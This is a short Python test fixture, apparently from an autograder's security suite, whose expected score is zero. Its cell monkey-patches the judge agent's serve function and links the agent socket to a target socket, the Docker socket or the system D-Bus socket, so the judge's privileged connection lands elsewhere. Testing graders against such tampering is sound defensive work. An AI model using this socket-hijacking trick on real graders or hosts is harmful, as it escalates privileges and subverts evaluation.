"""A link in place of the agent's socket, which leads to somebody else's: whoever connects for the judge would carry its
questions, with rights that the student has not, to a service outside."""

CELLS = {
    "last": """
import json, os, time
import grader.judge.agent as agent

at = json.load(open("targets.json"))
real = agent.serve


def serve(path):
    for target in (at["unix"], "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
        for make in (os.symlink, os.link):
            try:
                make(target, path)
                time.sleep(2)
                return
            except OSError as error:
                print(type(error).__name__)
    os.symlink(at["unix"], "mine")
    os.rename("mine", path)
    time.sleep(2)


agent.serve = serve


def last(values):
    return 0.0
"""
}
OWN = {"test_last": "agent.serve = real"}
EARNS = {"last": 0, "pick": (0, 1)}
STATUS = {"last": ("timed out", "crashed")}
